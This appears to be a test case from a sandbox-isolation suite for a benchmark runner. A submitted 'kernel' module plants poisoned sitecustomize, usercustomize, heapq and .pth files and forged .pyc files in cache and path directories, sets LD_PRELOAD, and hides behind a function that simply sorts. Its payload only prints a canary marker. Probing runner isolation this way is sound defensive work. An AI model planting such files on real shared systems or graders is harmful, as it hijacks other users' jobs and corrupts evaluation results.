# ruff: noqa
# mypy: ignore-errors
# group: persistence
# catalogue: E4 S5
# tries: have the builder leave start-up files, compiled modules and libraries where a runner's Python and linker look for theirs (KBSLURM_CACHE)
# verdict: passed
# levels: 2
# never: POISONED
import importlib.util
import os
import sys

_SAY = "import os\nos.write(1, b'POI' + b'SONED\\n')\n"
for _name in ("sitecustomize", "usercustomize", "heapq", "kbslurm_eval"):
    if getattr(sys.modules.get(_name), "poison", False):
        os.write(1, b"POISONED " + _name.encode())
for _place in {os.environ[n] for n in os.environ if n.endswith(("_CACHE", "_DIR", "_HOME", "_PATH"))} | {
    "/built",
    "/tmp",
}:
    for _at in ("", "lib/python3/site-packages", "__pycache__", "../.local/lib"):
        try:
            os.makedirs(f"{_place}/{_at}", exist_ok=True)
            for _name in ("sitecustomize", "usercustomize", "heapq", "kbslurm_eval"):
                with open(f"{_place}/{_at}/{_name}.py", "w") as _file:
                    _file.write(f"{_SAY}poison = True\n")
                _code = compile(f"{_SAY}poison = True\n", _name, "exec")
                with open(f"{_place}/{_at}/{_name}.{sys.implementation.cache_tag}.pyc", "wb") as _file:
                    import marshal

                    _file.write(importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(_code))
            with open(f"{_place}/{_at}/kb.pth", "w") as _file:
                _file.write(_SAY.replace("\n", ";")[:-1])
        except OSError:
            pass
os.environ["LD_PRELOAD"] = os.environ["LD_LIBRARY_PATH"] = "/built"


def custom_kernel(data):
    return sorted(data)
